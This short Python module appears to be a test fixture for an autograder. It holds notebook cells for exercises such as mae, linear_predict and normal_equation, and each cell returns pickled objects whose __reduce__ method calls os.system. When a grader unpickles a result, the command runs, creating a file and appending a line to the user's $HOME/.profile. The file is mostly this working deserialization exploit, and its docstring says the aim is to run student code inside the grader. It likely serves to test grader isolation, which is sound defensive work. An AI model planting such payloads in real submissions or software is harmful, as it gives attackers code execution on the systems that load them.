"""Results and outputs whose pickle runs a command when it is read.

Gain: code of the student's in the grader.
"""

CELLS = {
    "mae": """
import os, pickle

class Command:
    def __reduce__(self):
        return os.system, ("touch $HOME/.profile2; echo x >> $HOME/.profile",)

def mae(Y_hat, Y):
    found = np.empty((), dtype=object)
    found[()] = Command()
    return found
""",
    "linear_predict": """
def linear_predict(X, W, b):
    return pickle.dumps(Command())
""",
    "normal_equation": """
def normal_equation(X, Y):
    return Command(), np.array([Command()])
""",
    "end": "Command(), pickle.dumps(Command())",
}
